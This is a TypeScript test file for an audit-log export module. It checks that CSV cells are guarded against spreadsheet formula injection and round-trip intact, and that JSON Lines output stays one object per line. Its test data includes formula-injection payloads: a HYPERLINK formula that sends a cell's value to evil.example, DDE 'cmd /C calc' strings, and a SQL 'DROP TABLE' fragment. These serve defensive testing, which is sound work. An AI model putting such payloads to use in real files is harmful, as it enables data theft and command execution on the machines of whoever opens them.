import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { AuditRecord } from "@/server/audit/read";
import { guardFormula, sheetColumns, sheets, toCsvLine } from "@/server/audit/sheet";
import { parseCsv } from "../csv";

/** What a program of tables may calculate, whatever it skips before. */
const calculated = /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]|^[\t\r\n]/u;
/** Undoes the guard, as its description promises. */
const unguarded = (text: string) => (/^'+/.test(text) && guardFormula(text.slice(1)) === text ? text.slice(1) : text);

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u202e=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠x",
  "'=1+1",
  "''=1+1",
  '"=1+1"',
  "a,b",
  'a"b""c',
  "a\r\nb\nc\rd",
  "مرحبا ‏=1",
  "👩‍👩‍👧‍👦🏳️‍🌈",
  "'",
  "",
  " padded ",
  "; DROP TABLE",
  "x".repeat(1024 * 1024),
];

const record: AuditRecord = {
  ...{ id: "0198", at: new Date("2026-11-21T08:00:00Z"), actorKind: "operator", actorId: "a", actorName: "Mei" },
  ...{ role: "owner", address: "192.0.2.1", userAgent: "x", sessionId: null, action: "requests.decide", risk: "write" },
  ...{ bot: { id: "b", name: "Bot" }, platform: "napcat", endpoint: null, capability: null, requestId: null },
  ...{ groupId: "1", personId: "2", target: null, outcome: "OK", error: null, platformText: null, durationMs: 3 },
  ...{ hasDrift: false, correlationId: "c", repeats: 0, input: { verb: "deny" }, before: null, after: [1] },
};

describe("a cell", () => {
  it.each(hostile.map((text) => [JSON.stringify(text.slice(0, 40)), text]))(
    "of %s comes back as it was, and is nothing to calculate",
    (_name, text) => {
      const [[cell = "", next] = []] = parseCsv(toCsvLine([text, "next"]));
      expect(next).toBe("next");
      expect(cell).not.toMatch(calculated);
      expect(unguarded(cell)).toBe(text);
    },
  );

  it("of half a character is written as a whole one", () => {
    expect(parseCsv(toCsvLine(["a\ud800b", "\udc00=1"]))).toEqual([["a\uFFFDb", "\uFFFD=1"]]);
  });

  it("of any text comes back as it was, and is nothing to calculate", () => {
    const pieces = fc.constantFrom(..."=+-@＝＋－＠'\"\t\r\n ,;a1\u202e\u200b\ufeff", "\u00e9", "👍", "中");
    const text = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.array(pieces, { maxLength: 8 }).map((all) => all.join("")),
    );
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 6 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const parsed = parseCsv(rows.map((row) => toCsvLine(row)).join(""));
        for (const cell of parsed.flat()) expect(cell).not.toMatch(calculated);
        expect(parsed.map((row) => row.map(unguarded))).toEqual(
          rows.map((row) => row.map((each) => each.toWellFormed())),
        );
      }),
      { numRuns: 500 },
    );
  });
});

describe("a file", () => {
  it("of CSV begins with the mark of UTF-8 and names its columns once", () => {
    const text = `${sheets.csv.head}${sheets.csv.line(record)}`;
    expect(text.startsWith("\uFEFFid,at,actorKind,")).toBe(true);
    const [head = [], row = []] = parseCsv(text.slice(1));
    expect(head).toEqual(sheetColumns);
    expect(row).toHaveLength(head.length);
    expect(Object.fromEntries(head.map((name, at) => [name, row[at]]))).toMatchObject({
      ...{ at: "2026-11-21T08:00:00.000Z", botName: "Bot", target: "", hasDrift: "false", repeats: "0" },
      ...{ input: '{"verb":"deny"}', before: "", after: "[1]" },
    });
  });

  it("of JSON Lines is one object a line, whatever stands in it", () => {
    for (const target of [...hostile, "\ud800", "a\u2028b\u2029c"]) {
      const line = sheets.jsonl.line({ ...record, target, input: { target } });
      expect(line.indexOf("\n")).toBe(line.length - 1);
      expect(JSON.parse(line)).toEqual({ ...record, at: record.at.toISOString(), target, input: { target } });
    }
  });
});
